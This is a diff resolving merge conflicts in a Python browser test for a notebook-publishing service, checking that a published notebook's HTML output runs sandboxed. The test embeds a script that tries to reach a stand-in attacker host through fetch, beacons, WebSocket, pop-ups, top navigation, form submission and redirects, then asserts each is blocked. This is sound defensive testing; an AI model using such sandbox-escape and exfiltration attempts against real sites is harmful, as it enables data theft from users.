@@ -73,19 +73,11 @@ def watched(browser: Browser, repo: Answering) -> Iterator[Watched]:
 
 def sign_in(repo: Answering) -> requests.Session:
     session = requests.Session()
-<<<<<<< HEAD
-    form = session.get(f"{repo.url}/login", timeout=30).text
-    token = re.search(r'name="_xsrf" value="([^"]+)"', form)
-    assert token is not None
-    data = {"_xsrf": token[1], "name": "ada", "password": "secret-ada"}
-    assert session.post(f"{repo.url}/login", data=data, timeout=30).status_code == 200
-=======
     form = session.get(f"{repo.url}/login", timeout=60).text
     token = re.search(r'name="_xsrf" value="([^"]+)"', form)
     assert token is not None
     data = {"_xsrf": token[1], "name": "ada", "password": "secret-ada"}
     assert session.post(f"{repo.url}/login", data=data, timeout=60).status_code == 200
->>>>>>> main
     return session
 
 
@@ -137,24 +129,14 @@ def test_interactive_outputs_run_by_a_click_in_a_closed_frame(repo: Answering, w
       try { say("parent", parent.document.title) } catch (error) { say("parent", error.name) }
       say("origin", origin);
       say("calls", typeof RTCPeerConnection);
-<<<<<<< HEAD
-      const tried = [["own", "/api/user"], ["other", "EVIL/f"]].map(([what, where]) =>
-        fetch(where).then(() => say(what, "reached"), () => say(what, "refused")));
-=======
       const own = fetch("/api/user").then(() => say("own", "reached"), () => say("own", "refused"));
       const other = fetch("EVIL/f").then(() => say("other", "reached"), () => say("other", "refused"));
->>>>>>> main
       new Image().src = "EVIL/i.png"; navigator.sendBeacon("EVIL/b");
       try { new WebSocket("ws://evil.example/w") } catch (error) { }
       try { open("EVIL/o") } catch (error) { }
       try { top.location = "EVIL/t" } catch (error) { say("top", error.name) }
       const form = document.createElement("form"); form.action = "EVIL/p"; document.body.append(form); form.submit();
-<<<<<<< HEAD
-      document.getElementById("works").onclick = () => location = "EVIL/l";
-      Promise.all(tried).then(() => setTimeout(() => say("done", 1), 300));
-=======
       Promise.all([own, other]).then(() => say("done", 1)); onmessage = () => { location = "EVIL/l" };
->>>>>>> main
     </script>""".replace("EVIL", EVIL)
     where = publish(repo, 901, nbformat.v4.new_notebook(cells=[code(**{"text/html": spy, "text/plain": "plain"})]))
     repo.patch(f"/api/package{where}", by="ada", json={"visibility": "private"})
@@ -176,11 +158,7 @@ def test_interactive_outputs_run_by_a_click_in_a_closed_frame(repo: Answering, w
         assert f"|{what}" in said
     assert "|own=refused" in said
     assert "|other=refused" in said
-<<<<<<< HEAD
-    frame.locator("#works").click()
-=======
     page.evaluate("document.querySelector('iframe').contentWindow.postMessage('go', '*')")
->>>>>>> main
     expect(frame.locator("#works")).to_have_count(0)  # it went, and arrived nowhere
     watched.harmless(repo.url + where)
     assert len(watched.context.pages) == 1, "no window was opened"
